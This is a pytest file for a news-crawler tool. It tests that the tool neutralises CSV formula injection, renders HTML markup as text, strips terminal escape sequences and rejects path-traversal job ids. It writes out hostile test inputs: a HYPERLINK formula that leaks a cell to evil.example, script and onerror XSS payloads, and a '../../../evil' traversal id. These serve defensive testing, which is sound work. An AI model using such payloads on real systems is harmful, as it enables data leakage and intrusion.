"""What the project writes for people is safe to open: CSV in a spreadsheet, the run report in a
browser, the run table and stats in a terminal; Scrapyd's answers never name a file unchecked."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from conftest import replay_crawl
from conftest import run_newscrawl as newscrawl
from test_scheduler import FakeScrapyd

from newscrawl.tools.runlog import RunLog
from newscrawl.tools.scheduling import Scheduler

HOSTILE = {
    "headline": '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
    "description": "+31 6 12345678 bel nu",
    "articleSection": "-2+3",
    "datePublishedRaw": "@SUM(1+1)",
}


@pytest.fixture(scope="module")
def hostile_dataset(tmp_path_factory) -> Path:
    """A real crawled dataset whose first article carries formulas in its text fields."""
    root = tmp_path_factory.mktemp("hostile")
    lines, _, _ = replay_crawl("nu", root)
    items = [json.loads(line) for line in lines]
    items[0].update(HOSTILE)
    items[0]["keywords"] = ["\tcmd", "gewoon"]
    path = root / "hostile.jsonl"
    path.write_text("".join(json.dumps(item, ensure_ascii=False) + "\n" for item in items), "utf-8")
    return path


def test_csv_cells_that_start_like_formulas_are_neutralised(hostile_dataset, tmp_path):
    out = tmp_path / "nu.csv"
    assert newscrawl("export", str(hostile_dataset), "-o", str(out)).returncode == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    row = next(r for r in rows if r["headline"].startswith("'="))
    for name, value in HOSTILE.items():
        assert row[name] == "'" + value
    assert json.loads(row["keywords"]) == ["\tcmd", "gewoon"]  # JSON text starts with "[": no formula
    # No cell of any row can start a formula.
    assert not [value for r in rows for value in r.values() if value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Asked for raw: the values as they are.
    raw = tmp_path / "raw.csv"
    assert newscrawl("export", str(hostile_dataset), "-o", str(raw), "--csv-raw").returncode == 0
    row = next(r for r in csv.DictReader(raw.open(encoding="utf-8", newline="")) if r["headline"].startswith("="))
    assert {name: row[name] for name in HOSTILE} == HOSTILE


MARKUP = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>'


def hostile_run_log(data: Path) -> None:
    """A run log whose every field carries markup or escape sequences, and manifests of every wrong shape."""
    (data / "nu").mkdir(parents=True)
    (data / "nu" / "list.manifest.json").write_text("[1, 2, 3]")
    (data / "nu" / "broken.manifest.json").write_text("{not json")
    (data / "nu" / "shapes.manifest.json").write_text(
        json.dumps(
            {
                "fieldCoverage": "all of it",
                "layout": ["x"],
                "urls": {"outcomeDetails": {"failure:<b>x</b>": "<i>3</i>"}},
            }
        )
    )
    entries = [
        {
            "job": MARKUP,
            "spider": MARKUP,
            "end": "\x1b[2J" + MARKUP,
            "status": "ok",
            "items": MARKUP,
            "new": "<b>1</b>",
            "revised": {"x": 1},
            "failures": 0,
            "rejects": "\x1b]0;pwned\x07",
            "problems": [MARKUP, "\x1b[31mred\x1b[0m"],
            "manifest": "javascript:window.pwned=3",
        },
        {
            "job": "j2",
            "spider": "nu",
            "end": "2025-04-01 02:00:00",
            "status": "failed",
            "items": 3,
            "new": 1,
            "revised": 0,
            "failures": 1,
            "rejects": 0,
            "problems": "not a list",
            "manifest": str(data / "nu" / "list.manifest.json"),
        },
        {
            "job": "j3",
            "spider": "nu",
            "end": "2025-04-01 03:00:00",
            "status": "ok",
            "items": 4,
            "new": 4,
            "revised": 0,
            "failures": 0,
            "rejects": 0,
            "problems": [],
            "manifest": str(data / "nu" / "broken.manifest.json"),
        },
        {
            "job": "j4",
            "spider": "nu",
            "end": "2025-04-01 04:00:00",
            "status": "ok",
            "items": 5,
            "new": 5,
            "revised": 0,
            "failures": 0,
            "rejects": 0,
            "problems": [],
            "manifest": str(data / "nu" / "shapes.manifest.json"),
        },
    ]
    (data / "runs.jsonl").write_text("".join(json.dumps(entry) + "\n" for entry in entries), "utf-8")


def test_the_run_report_shows_markup_as_text_and_survives_wrong_shapes(tmp_path):
    from test_scheduler import _need_chromium

    chromium = _need_chromium()
    data = tmp_path / "data"
    hostile_run_log(data)
    report = tmp_path / "runs.html"
    result = newscrawl("runs", str(data), "--all", "--html", str(report))  # jobs of 2025: all of them
    assert result.returncode == 0 and report.exists(), (
        result.stderr
    )  # each spider's latest job is ok; the report is whole
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page()
        dialogs, errors = [], []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(report.as_uri())
        page.wait_for_timeout(300)
        assert page.evaluate("window.pwned") is None and dialogs == [] and errors == []
        assert page.locator("script").count() == 0 and page.locator("img").count() == 0
        assert page.locator('a[href^="javascript"]').count() == 0
        rows = page.locator("tbody tr")
        assert rows.count() == 4
        # In the order the jobs ended; the one whose end is not a time comes last.
        assert MARKUP in rows.nth(3).inner_text()  # shown, not run
        assert "manifest of the wrong shape (a JSON list, not an object)" in rows.nth(0).inner_text()
        assert "manifest unreadable" in rows.nth(1).inner_text()
        assert "not a number" in rows.nth(3).inner_text()
        browser.close()


def test_the_run_table_prints_no_terminal_control_sequences(tmp_path):
    data = tmp_path / "data"
    hostile_run_log(data)
    result = newscrawl("runs", str(data), "--all")
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\\x1b[2J" in result.stdout and "\\x1b[31mred" in result.stdout  # shown as text


def test_stats_print_no_terminal_control_sequences(hostile_dataset, tmp_path):
    items = [json.loads(line) for line in hostile_dataset.read_text("utf-8").splitlines()]
    items[1]["articleSection"] = "\x1b]0;gekaapt\x07\x1b[2Jbinnenland"
    path = tmp_path / "escapes.jsonl"
    path.write_text("".join(json.dumps(item) + "\n" for item in items), "utf-8")
    result = newscrawl("stats", str(path))
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\\x1b]0;gekaapt\\x07" in result.stdout


def test_job_ids_are_checked_before_they_name_a_file(tmp_path):
    data = tmp_path / "data"
    scrapyd = FakeScrapyd(active=())
    scrapyd.finished = [
        {"id": "../../../evil", "spider": "nu"},
        {"id": "ok-1", "spider": "../nu"},
        {"id": "crash-2", "spider": "wnl"},
    ]
    Scheduler(scrapyd, "newscrawl", [], data).tick()
    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert written == ["data/runs.jsonl", "data/wnl/wnl-crash-2.crashed.manifest.json"]
    entries = RunLog(data).entries()
    assert [(e["job"], e["status"]) for e in entries] == [
        ("../../../evil", "failed"),
        ("ok-1", "failed"),
        ("crash-2", "failed"),
    ]
    assert entries[0]["problems"] == ["job id or spider name is not a safe file name"]


def test_a_malformed_manifest_never_stops_the_scheduler(tmp_path):
    data = tmp_path / "data"
    (data / "nu").mkdir(parents=True)
    (data / "nu" / "a.manifest.json").write_text('[{"job": "j1"}]')
    (data / "nu" / "b.manifest.json").write_text('{"job": ["j1"]}')  # an id that is not a string
    (data / "nu" / "c.manifest.json").write_text('{"job": "j2", "counts": "many", "layout": "bad", "status": "ok"}')
    (data / "nu" / "d.manifest.json").write_bytes(b"\xff\xfe not utf-8")
    scrapyd = FakeScrapyd(active=())
    scrapyd.finished = [{"id": "j1", "spider": "nu"}, {"id": "j2", "spider": "nu"}]
    outcome = Scheduler(scrapyd, "newscrawl", ["wnl"], data).tick()
    assert outcome == {"wnl": "job-wnl"}  # the tick went on and scheduled
    entries = {e["job"]: e for e in RunLog(data).entries()}
    assert (
        entries["j1"]["status"] == "failed" and "crashed" in entries["j1"]["problems"][0]
    )  # no manifest of its own: a stub
    # A hand-broken manifest (counts not numbers) is a failed run, never an ok one with 0 items (issue 31).
    assert entries["j2"]["status"] == "failed" and "counts must be an object" in entries["j2"]["problems"][0]


def test_a_job_pending_too_long_is_reported(tmp_path, caplog):
    scrapyd = FakeScrapyd(active=())
    scrapyd.pending = [{"id": "p1", "spider": "nu", "state": "pending"}]
    scheduler = Scheduler(scrapyd, "newscrawl", ["nu", "wnl"], tmp_path, max_pending=0)
    assert scheduler.tick()["nu"] == "skipped: a job is still pending or running"  # first seen pending now
    outcome = scheduler.tick()
    assert outcome["nu"].startswith("skipped: job p1 pending for ") and outcome["nu"].endswith("(over 0 s)")
    assert "nu: job p1 has been pending for" in caplog.text
    assert [s[0] for s in scrapyd.scheduled] == ["wnl"]  # once: its job is pending at the second tick
